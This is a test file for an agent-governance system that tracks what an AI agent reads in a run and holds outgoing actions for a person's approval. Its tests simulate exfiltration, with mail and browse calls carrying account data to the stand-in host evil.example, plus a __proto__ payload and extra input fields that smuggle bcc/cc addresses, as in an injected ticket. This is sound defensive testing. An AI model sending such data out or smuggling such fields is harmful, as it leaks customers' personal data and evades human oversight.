import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ActionView, FlowFacts, Json } from "@countersign/contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readReceipt } from "../../packages/countersign/src/action/index.ts";
import { type Assembled, assemble } from "../../packages/countersign/src/assemble.ts";
import { listReviews } from "../../packages/countersign/src/catalog/index.ts";
import { systemClock } from "../../packages/countersign/src/floor/clock.ts";
import { silent } from "../../packages/countersign/src/floor/log.ts";
import {
  answer,
  openRun,
  proposeTier,
  type RunRequest,
  reviewTool,
  showApproval,
  signTier,
} from "../../packages/countersign/src/governance/index.ts";
import type { Caller, PersonCaller } from "../../packages/countersign/src/identity/caller.ts";
import { configOf, nothing, until } from "../faults/world.ts";
import { openTestDatabase, type TestDatabase, urlOf } from "../support/database.ts";
import { type Desk, deskFile, openDesk } from "../support/desk.ts";

const person = (name: string, roles: PersonCaller["roles"]): PersonCaller => ({
  kind: "person",
  email: `${name.toLowerCase()}@acme.example`,
  name,
  roles,
  groups: [],
  credential: `test-${name}`,
  method: "cli",
});
const ana = person("Ana", ["dri", "admin", "approver"]);
const bo = person("Bo", ["dri", "admin", "operator", "approver"]);
const all = [
  "get_ticket",
  "staff",
  "status",
  "send_mail",
  "fetch",
  "get_state",
  "set_state",
  "close_account",
  "browse",
  "unlabelled",
];
const workflow = (name: string, agents: readonly string[], more = "") => `
workflow: ${name}
purpose: answer customers
dri: ana@acme.example
pattern: autonomous-nonprod
agents: [${agents.join(", ")}]
tier: 2
allow: [${all.map((tool) => `desk.${tool}`).join(", ")}]
${more}`;

let base: TestDatabase;
let folder: string;
let desk: Desk;
let plane: Assembled;
let other: Assembled;

beforeAll(async () => {
  base = await openTestDatabase();
  folder = mkdtempSync(join(tmpdir(), "countersign-flow-"));
  desk = await openDesk();
  const workspace = join(folder, "workspace");
  for (const part of ["workflows", "tools"]) mkdirSync(join(workspace, part), { recursive: true });
  writeFileSync(
    join(workspace, "countersign.yaml"),
    `organisation: Acme
people:
  - { email: ana@acme.example, name: Ana, roles: [dri, admin, approver] }
  - { email: bo@acme.example, name: Bo, roles: [dri, admin, operator, approver] }
agents:
  - { name: clerk, owner: bo@acme.example, purpose: answers }
  - { name: helper, owner: bo@acme.example, purpose: helps }
  - { name: free, owner: bo@acme.example, purpose: is not watched }
environments: { sandbox: { production: false } }
server: { publicUrl: "http://localhost:4600", listen: 127.0.0.1:4600 }
`,
  );
  writeFileSync(join(workspace, "workflows/support.yaml"), workflow("support", ["clerk", "helper"]));
  writeFileSync(join(workspace, "workflows/unwatched.yaml"), workflow("unwatched", ["free"], "flow: off"));
  writeFileSync(join(workspace, "tools/desk.yaml"), deskFile(desk.url));
  const config = configOf(folder, { databaseUrl: base.url, databaseAdminUrl: urlOf(base.ownerAt) });
  plane = await assemble({ config, clock: systemClock, log: silent, tally: nothing });
  for (const { tool, digest } of await listReviews(plane.db, "desk"))
    await reviewTool(plane.control, ana, { server: "desk", tool, digest, answer: "approve" });
  for (const [agent, of] of [
    ["clerk", "support"],
    ["helper", "support"],
    ["free", "unwatched"],
  ] as const) {
    const { id } = await proposeTier(plane.control, ana, {
      agent,
      workflow: of,
      tier: 2,
      days: 7,
      reason: "to be shown",
    });
    await signTier(plane.control, bo, id);
  }
  other = await assemble({ config, clock: systemClock, log: silent, tally: nothing });
});
afterAll(async () => {
  await other?.close();
  await plane?.close();
  await desk?.close();
  await base?.close();
  rmSync(folder, { recursive: true, force: true });
});

function callerOf(agent: string, at = plane): Caller {
  const of = agent === "free" ? "unwatched" : "support";
  const known = at.control.keeper.current().caller(agent, of);
  if (known === undefined) throw new Error(`${agent} is not in force`);
  return { kind: "agent", agent, workflow: of, credential: `key_${agent}`, ...known };
}

interface Asking {
  readonly run?: string;
  readonly agent?: string;
  readonly at?: Assembled;
}

async function asks(tool: string, args: { readonly [name: string]: Json }, asking: Asking = {}): Promise<ActionView> {
  const { agent = "clerk", at = plane, run } = asking;
  const params = { name: tool, arguments: args };
  const submission = { server: "desk", tool, method: "tools/call", params, args, door: "mcp" as const };
  const { view } = await at.hall.submit(
    callerOf(agent, at),
    { ...submission, ...(run === undefined ? {} : { run }) },
    { waitMs: 0 },
  );
  return view;
}

const open = async (request: Omit<RunRequest, "agent">, who: PersonCaller | Caller = ana, agent = "clerk") =>
  (await openRun(plane.control, who, { agent, ...request })).id;

/** What was decided on, as the receipt shows it. */
async function flowOf(action: string): Promise<FlowFacts> {
  const receipt = await readReceipt(plane.control.parts, action);
  const flow = receipt.policy.input?.facts.flow;
  if (flow === undefined) throw new Error("nothing was gathered");
  return flow;
}

async function approve(action: string): Promise<void> {
  const { callDigest, shownDigest = "" } = await showApproval(plane.control, ana, action);
  await answer(plane.control, ana, { action, verdict: "approve", callDigest, shownDigest, reason: "looked at it" });
}

async function ended(action: string): Promise<string> {
  let state = "held";
  await until("the end of a held action", async () => {
    state = (await plane.hall.get(callerOf("clerk"), action)).state;
    return state !== "held" && state !== "ready" && state !== "running";
  });
  return state;
}

const mail = (to: string, asking: Asking = {}) => asks("send_mail", { to, body: "hello" }, asking);

describe("MT-156 a run that a person opened", () => {
  it("acts freely while it has read nothing that others write", async () => {
    const run = await open({ task: "tell the status" });
    await asks("status", {}, { run });
    await asks("staff", {}, { run });
    const sent = await mail("anybody@partner.example", { run });
    expect(sent.state).toBe("done");
    expect(await flowOf(sent.id)).toMatchObject({
      effect: "egress",
      tainted: false,
      read: ["internal"],
      origins: ["none"],
    });
  });

  it("is marked by the names and descriptions that a server lists", async () => {
    const run = await open({ task: "look around" });
    await plane.hall.listed(callerOf("clerk"), run, "desk", "mcp:resources/read");
    const sent = await mail("eve@evil.example", { run });
    expect(sent.state).toBe("held");
    expect((await flowOf(sent.id)).sources).toEqual([{ tool: "desk.mcp:resources/read" }]);
    const theirs = plane.hall.listed(callerOf("helper"), run, "desk", "mcp:resources/read");
    await expect(theirs).rejects.toMatchObject({ code: "not_found" });
  });

  it("sends nothing beside its arguments that nobody named, also by a read", async () => {
    const run = await open({ task: "answer ticket 7 to kim@customer.example" });
    await asks("get_ticket", { ticket: "7" }, { run });
    const beside = { inputResponses: { cc: { action: "accept", content: { cc: "eve@evil.example" } } } };
    for (const [tool, args] of [
      ["send_mail", { to: "kim@customer.example", body: "hello" }],
      ["status", {}],
    ] as const) {
      const params = { name: tool, arguments: args, ...beside };
      const submission = { server: "desk", tool, method: "tools/call", params, args, door: "mcp" as const, run };
      const { view } = await plane.hall.submit(callerOf("clerk"), submission, { waitMs: 0 });
      expect(view.state).toBe("held");
      expect(await flowOf(view.id)).toMatchObject({ effect: "egress", destinations: { params: "none" } });
    }
  });

  it("holds no name that changes every object of a server", async () => {
    const args = JSON.parse('{"to":"kim@customer.example","body":"x","__proto__":{"bcc":"eve@evil.example"}}');
    await expect(asks("send_mail", args)).rejects.toMatchObject({ code: "invalid" });
  });

  it("is held after it read a ticket, where the ticket says where to write", async () => {
    const run = await open({ task: "answer ticket 7" });
    const read = await asks("get_ticket", { ticket: "7" }, { run });
    const before = desk.deeds.length;
    const sent = await mail("eve@evil.example", { run });
    expect(sent.state).toBe("held");
    expect(sent.sentence).toContain("since its run has read `desk.get_ticket`");
    expect(desk.deeds.length).toBe(before);
    const receipt = await readReceipt(plane.control.parts, sent.id);
    expect(receipt.data.flow?.facts).toMatchObject({
      tainted: true,
      sources: [{ tool: "desk.get_ticket", action: read.id }],
      destinations: { "args.to": "untrusted" },
      read: ["personal"],
    });
  });

  it("goes where its task, its parameters or a rule says", async () => {
    const run = await open({
      task: "answer ticket 7 to Kim@Customer.example.",
      parameters: { copy: "boss@customer.example" },
    });
    await asks("get_ticket", { ticket: "7" }, { run });
    for (const [to, origin] of [
      ["kim@customer.example", "task"],
      ["boss@customer.example", "task"],
      ["ops@acme.example", "endorsed"],
    ] as const) {
      const sent = await mail(to, { run });
      expect([to, sent.state]).toEqual([to, "done"]);
      expect((await flowOf(sent.id)).origins).toEqual([origin]);
    }
    for (const [account, origin] of [
      ["A-17", "trusted"],
      ["A-99", "untrusted"],
    ] as const) {
      const closed = await asks("close_account", { account }, { run });
      expect(closed.state).toBe("held");
      expect((await flowOf(closed.id)).origins).toEqual([origin]);
    }
    for (const to of [
      "kim@customer.example.evil.example",
      "im@customer.example",
      "kim@customer.example,eve@evil.example",
    ])
      expect([to, (await mail(to, { run })).state]).toEqual([to, "held"]);
  });

  it("does once what nothing undoes and its task asks for; a second time needs a person, on every replica, in every spelling", async () => {
    const run = await open({ task: "answer ticket 7 and close account Z-4 and account Z-5" });
    await asks("get_ticket", { ticket: "7" }, { run });
    for (const account of ["Z-4", "Z-5"]) {
      const closed = await asks("close_account", { account }, { run });
      expect(closed.state).toBe("done");
      // What its caller was not told of is no second call, and attaches to the first.
      plane.hall.delivered(closed);
    }
    for (const [account, at] of [
      ["Z-4", plane],
      ["z-4", plane],
      ["Z-4", other],
    ] as const) {
      const again = await asks("close_account", { account }, { run, at });
      expect(again.state).toBe("held");
      expect(again.sentence).toContain("`a second time` stands in no task and in no answer");
      expect((await flowOf(again.id)).destinations).toEqual({ "args.account": "task", "a second time": "none" });
      await approve(again.id);
      expect(await ended(again.id)).toBe("done");
      plane.hall.delivered(await plane.hall.get(callerOf("clerk"), again.id));
    }
    const next = await open({ task: "answer ticket 7 and close account Z-4" });
    await asks("get_ticket", { ticket: "7" }, { run: next });
    expect((await asks("close_account", { account: "Z-4" }, { run: next })).state).toBe("done");
  });

  it("goes where a trusted record says while it is clean, and with a yes once it is tainted", async () => {
    const run = await open({ task: "answer ticket 7" });
    await asks("staff", {}, { run });
    expect((await mail("lea@partner.example", { run })).state).toBe("done");
    await asks("get_ticket", { ticket: "7" }, { run });
    const sent = await asks("send_mail", { to: "lea@partner.example", body: "and more" }, { run });
    expect(sent.state).toBe("held");
    expect((await flowOf(sent.id)).origins).toEqual(["trusted"]);
    expect(sent.sentence).toContain("since its run has read");
  });

  it("is asked once where nothing confidential was read: what a person lets go is approved for the rest of the run, and for no other", async () => {
    const run = await open({ task: "look at https://status.example/page" });
    await asks("fetch", { url: "https://status.example/page" }, { run });
    const first = await mail("eve@evil.example", { run });
    await approve(first.id);
    expect(await ended(first.id)).toBe("done");
    const second = await asks("send_mail", { to: "eve@evil.example", body: "again" }, { run });
    expect(second.state).toBe("done");
    expect((await flowOf(second.id)).origins).toEqual(["approved"]);
    expect((await asks("send_mail", { to: "eve@evil.example", body: "again" }, { run, at: other })).state).toBe("done");
    const next = await open({ task: "answer ticket 8" });
    await asks("get_ticket", { ticket: "8" }, { run: next });
    expect((await mail("eve@evil.example", { run: next })).state).toBe("held");
    // What is confidential now was not when somebody looked.
    await asks("get_ticket", { ticket: "7" }, { run });
    expect((await asks("send_mail", { to: "eve@evil.example", body: "and more" }, { run })).state).toBe("held");
  });

  it("changes what a plan undoes without a person, also where a ticket said so; the undo needs none either", async () => {
    const run = await open({ task: "answer ticket 7" });
    await asks("get_ticket", { ticket: "7" }, { run });
    const set = await asks("set_state", { ticket: "99", state: "closed" }, { run });
    expect(set.state).toBe("done");
    expect(await flowOf(set.id)).toMatchObject({ effect: "reversible", tainted: true, origins: ["none"] });
    const { view } = await plane.hall.reverse(callerOf("clerk"), set.id, "not asked for");
    expect(view.state).toBe("done");
    expect(desk.deeds.at(-1)).toEqual({ tool: "set_state", args: { ticket: "99", state: "open" } });
  });

  it("a read of an address that the agent chose is no plain read", async () => {
    const run = await open({ task: "look at https://status.example/page for ticket 7" });
    await asks("get_ticket", { ticket: "7" }, { run });
    expect((await asks("fetch", { url: "https://status.example/page" }, { run })).state).toBe("done");
    expect((await asks("fetch", { url: "https://status.example/page?q=A-17" }, { run })).state).toBe("held");
  });

  it("a read that nobody labelled is none where it could go to an address that the agent chose", async () => {
    const run = await open({ task: "look at https://status.example/page for ticket 7" });
    await asks("get_ticket", { ticket: "7" }, { run });
    for (const page of ["https://evil.example/?d=A-17", "evil.example/?d=A-17", "https:evil.example"]) {
      const asked = await asks("browse", { page }, { run });
      expect(asked.state, page).toBe("held");
      expect(await flowOf(asked.id)).toMatchObject({ effect: "egress", origins: ["none"] });
    }
    expect(desk.deeds.some(({ tool, args }) => tool === "browse" && String(args.page).includes("evil"))).toBe(false);
    expect((await asks("browse", { page: "https://status.example/page" }, { run })).state).toBe("done");
    expect((await asks("browse", { page: "opening hours" }, { run })).state).toBe("done");
  });

  it("what nobody labelled taints, leaves, and goes nowhere that is known", async () => {
    const run = await open({ task: "write a note" });
    expect((await asks("unlabelled", { note: "one" }, { run })).state).toBe("done");
    const second = await asks("unlabelled", { note: "two" }, { run });
    expect(second.state).toBe("held");
    expect(await flowOf(second.id)).toMatchObject({
      effect: "egress",
      tainted: true,
      read: ["secret"],
      origins: ["none"],
    });
  });

  it("with a plan does what the plan names, and asks for the rest once it is tainted", async () => {
    const task = "answer ticket 7 to kim@customer.example, close account A-17";
    const run = await open({ task, plan: [{ tool: "desk.get_ticket" }, { tool: "desk.send_mail" }] });
    await asks("get_ticket", { ticket: "7" }, { run });
    expect((await mail("kim@customer.example", { run })).state).toBe("done");
    const closed = await asks("close_account", { account: "A-17" }, { run });
    expect(closed.state).toBe("held");
    expect((await readReceipt(plane.control.parts, closed.id)).policy.determining.map(({ id }) => id)).toContain(
      "flow-scope",
    );
  });
});

describe("MT-156 what a task names to where it says", () => {
  it("is told alone of records that it names, and with a person of others, in whatever words", async () => {
    const run = await open({ task: "tell kim@customer.example about ticket 7" });
    await asks("get_ticket", { ticket: "7" }, { run });
    const alone = await mail("kim@customer.example", { run });
    expect(alone.state).toBe("done");
    expect(await flowOf(alone.id)).toMatchObject({ read: ["personal"], beyond: [], origins: ["task"] });
    await asks("get_ticket", { ticket: "8" }, { run });
    const asked = await asks("send_mail", { to: "kim@customer.example", body: "olleh" }, { run });
    expect(asked.state).toBe("held");
    expect(asked.sentence).toContain("it has read what is personal, of records that its task does not name");
    expect(await flowOf(asked.id)).toMatchObject({ beyond: ["personal"], origins: ["task"] });
  });

  it("is not told alone what nobody can tell any more where it came from", async () => {
    const run = await open({ task: "tell kim@customer.example about ticket 7" });
    await asks("get_ticket", { ticket: "7" }, { run });
    expect((await mail("kim@customer.example", { run, at: other })).state).toBe("done");
    const read = await asks("get_ticket", { ticket: "8" }, { run });
    await base.owner.query("delete from subject_key where subject = $1", [read.id]);
    const asked = await asks("send_mail", { to: "kim@customer.example", body: "olleh" }, { run, at: other });
    expect(asked.state).toBe("held");
    expect(await flowOf(asked.id)).toMatchObject({ beyond: ["personal"], origins: ["task"] });
  });
});

describe("MT-156 runs under a run", () => {
  it("are tainted by what the run above read, and taint it, on every replica", async () => {
    const run = await open({ task: "answer ticket 7" });
    const under = await open({ parent: run, task: "write to eve@evil.example" }, callerOf("helper"), "helper");
    expect((await mail("a@partner.example", { run: under, agent: "helper" })).state).toBe("done");
    await asks("get_ticket", { ticket: "7" }, { run: under, agent: "helper" });
    // The task of a run that an agent opened names nothing.
    expect((await mail("eve@evil.example", { run: under, agent: "helper" })).state).toBe("held");
    expect((await mail("eve@evil.example", { run, at: other })).state).toBe("held");
  });

  it("take the task of the run that a person opened, and its plan", async () => {
    const run = await open({ task: "answer ticket 7 to kim@customer.example", plan: [{ tool: "desk.send_mail" }] });
    const under = await open({ parent: run }, callerOf("helper"), "helper");
    await asks("get_ticket", { ticket: "7" }, { run: under, agent: "helper" });
    expect((await mail("kim@customer.example", { run: under, agent: "helper" })).state).toBe("done");
    expect((await asks("close_account", { account: "A-17" }, { run: under, agent: "helper" })).state).toBe("held");
    await expect(
      open({ parent: run, plan: [{ tool: "desk.close_account" }] }, callerOf("helper"), "helper"),
    ).rejects.toMatchObject({ code: "forbidden" });
  });

  it("are opened under no run of another workflow, and under none that there is not", async () => {
    const run = await open({ task: "answer" });
    for (const parent of [run, "run_00000000000000000000000000"])
      await expect(open({ parent }, callerOf("free"), "free")).rejects.toMatchObject({ code: "not_found" });
  });
});

describe("MT-156 a run that nobody opened", () => {
  it("counts as told by anybody: it reads, it does what a plan undoes, and is held for the rest", async () => {
    expect((await asks("get_ticket", { ticket: "7" })).state).toBe("done");
    expect((await asks("set_state", { ticket: "7", state: "closed" })).state).toBe("done");
    const sent = await mail("kim@customer.example");
    expect(sent.state).toBe("held");
    expect(sent.sentence).toContain("nobody opened its run with a task");
    expect(await flowOf(sent.id)).toMatchObject({ tainted: true, origins: ["none"] });
    expect((await mail("ops@acme.example")).state).toBe("done");
  });

  it("is free where the workflow says that flow decides nothing", async () => {
    await asks("get_ticket", { ticket: "7" }, { agent: "free" });
    expect((await mail("eve@evil.example", { agent: "free" })).state).toBe("done");
  });
});
